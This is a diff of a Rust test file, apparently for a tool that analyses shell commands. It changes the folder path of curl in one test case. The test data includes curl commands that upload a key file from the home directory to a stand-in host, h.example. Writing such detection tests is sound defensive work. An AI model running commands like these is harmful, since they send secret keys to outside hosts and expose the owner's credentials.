@@ -509,8 +509,8 @@ fn a_program_is_known_by_its_name_in_any_folder() {
             "r:key x:~/bin/curl upload>h.example key->h.example",
         ),
         (
-            "/root/miniconda3/bin/curl -d @$HOME/key h.example:8080",
-            "r:~/key x:/root/miniconda3/bin/curl upload>h.example ~/key->h.example",
+            "/opt/miniconda3/bin/curl -d @$HOME/key h.example:8080",
+            "r:~/key x:/opt/miniconda3/bin/curl upload>h.example ~/key->h.example",
         ),
         (
             "/nix/store/abc-curl-8/bin/curl -T ~/key h.example",
